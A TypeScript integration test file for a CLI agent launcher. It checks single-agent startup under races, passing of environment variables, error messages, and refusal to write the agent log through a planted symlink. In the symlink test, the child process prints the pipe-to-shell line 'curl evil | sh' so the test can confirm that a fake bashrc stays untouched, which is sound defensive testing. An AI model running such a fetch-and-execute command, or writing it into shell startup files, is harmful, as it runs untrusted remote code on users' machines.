import { build } from 'esbuild';
import { mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { AgentClient } from '../../../main/cli/agent-client';
import { ensureAgentRunning } from '../../../main/cli/agent-launcher';
import { createCliContext } from '../../../main/cli/cli-context';

let fakeAgentMain: string;

beforeAll(async () => {
  const cacheDir = join(process.cwd(), 'node_modules', '.cache');
  mkdirSync(cacheDir, { recursive: true });
  fakeAgentMain = join(await mkdtemp(join(cacheDir, 'latchkey-fake-agent-')), 'fake-agent-main.mjs');
  await build({
    entryPoints: ['test/integration/cli/fake-agent-main.ts'],
    outfile: fakeAgentMain,
    bundle: true,
    platform: 'node',
    target: 'node20',
    format: 'esm',
    logLevel: 'silent',
  });
});

afterAll(async () => {
  await rm(dirname(fakeAgentMain), { recursive: true, force: true });
});

let dir: string;
const started: number[] = [];

afterEach(async () => {
  for (const pid of started.splice(0)) {
    try {
      process.kill(pid, 'SIGTERM');
    } catch {
      // already gone
    }
  }
  if (dir !== undefined) await rm(dir, { recursive: true, force: true });
});

async function logLines(logPath: string, count: number): Promise<string[]> {
  for (let i = 0; i < 200; i += 1) {
    const lines = (await readFile(logPath, 'utf8').catch(() => '')).split('\n').filter((l) => l !== '');
    if (lines.length >= count) return lines;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error(`expected ${count} agent log lines`);
}

describe('agent autostart', () => {
  it('ends with exactly one agent when 10 callers race to start one', async () => {
    dir = await mkdtemp(join(tmpdir(), 'latchkey-autostart-'));
    const socketPath = join(dir, 'run', 'agent.sock');
    const logPath = join(dir, 'agents.log');
    const launch = (): Promise<number> =>
      ensureAgentRunning({
        client: new AgentClient(socketPath),
        command: process.execPath,
        args: [fakeAgentMain],
        env: { PATH: process.env['PATH'] ?? '', LATCHKEY_SOCKET: socketPath, FAKE_AGENT_LOG: logPath },
        platform: process.platform,
      });
    const pids = await Promise.all(Array.from({ length: 10 }, launch));
    const [winner] = pids;
    started.push(winner ?? 0);
    expect(new Set(pids)).toEqual(new Set([winner]));

    const lines = await logLines(logPath, 10);
    expect(lines.filter((l) => l.endsWith(' serving'))).toEqual([`${winner} serving`]);
    expect(lines.filter((l) => l.endsWith(' refused'))).toHaveLength(9);
    // A later caller finds the running agent and spawns nothing.
    expect(await launch()).toBe(winner);
    expect(await logLines(logPath, 10)).toHaveLength(10);
  });

  it('writes the agent log only to a regular file of its own, never through a symlink planted at its name', async () => {
    dir = await mkdtemp(join(tmpdir(), 'latchkey-autostart-'));
    const socketPath = join(dir, 'run', 'agent.sock');
    mkdirSync(dirname(socketPath), { mode: 0o700 });
    const victim = join(dir, 'bashrc');
    await writeFile(victim, 'export PATH=/usr/bin\n');
    await symlink(victim, join(dir, 'run', 'agent.log'));
    const error = await ensureAgentRunning({
      client: new AgentClient(socketPath),
      command: process.execPath,
      args: ['-e', 'console.log("curl evil | sh")'],
      env: {},
      platform: process.platform,
      timeoutMs: 300,
    }).catch((e: unknown) => e);
    // Started without a log, so the message names none.
    expect((error as Error).message).toBe('The Latchkey agent did not start within 1 second.');
    expect(await readFile(victim, 'utf8')).toBe('export PATH=/usr/bin\n');
  });

  it('hands the launcher variables back to the agent it starts, and to nothing else', async () => {
    dir = await mkdtemp(join(tmpdir(), 'latchkey-autostart-'));
    const socketPath = join(dir, 'run', 'agent.sock');
    const seen = join(dir, 'agent-env.json');
    const env: Record<string, string | undefined> = {
      PATH: process.env['PATH'],
      LATCHKEY_SOCKET: socketPath,
      ELECTRON_RUN_AS_NODE: '1',
      LATCHKEY_LAUNCHER: process.execPath,
    };
    const proc = { ...process, env, argv: [process.execPath, '-e'] } as NodeJS.Process;
    const recordEnv = `require("fs").writeFileSync(${JSON.stringify(seen)}, JSON.stringify(process.env))`;
    const ctx = createCliContext(proc, async () => (options) => ensureAgentRunning({ ...options, args: ['-e', recordEnv], timeoutMs: 300 }));
    expect(env).not.toHaveProperty('ELECTRON_RUN_AS_NODE');
    expect(env).not.toHaveProperty('LATCHKEY_LAUNCHER');
    await ctx.withAgent((client) => client.call({ method: 'GET', path: '/v1/status', read: () => undefined })).catch(() => undefined);
    const agentEnv = JSON.parse(await readFile(seen, 'utf8')) as Record<string, string>;
    expect(agentEnv).toMatchObject({ ELECTRON_RUN_AS_NODE: '1', LATCHKEY_LAUNCHER: process.execPath });
  });

  it('gives a clear error naming the log when the agent never answers', async () => {
    dir = await mkdtemp(join(tmpdir(), 'latchkey-autostart-'));
    const socketPath = join(dir, 'run', 'agent.sock');
    await expect(
      ensureAgentRunning({
        client: new AgentClient(socketPath),
        command: process.execPath,
        args: ['-e', 'process.exit(1)'],
        env: {},
        platform: process.platform,
        timeoutMs: 500,
      }),
    ).rejects.toThrow(/did not start within 1 second; its log is .*agent\.log/);
  });
});
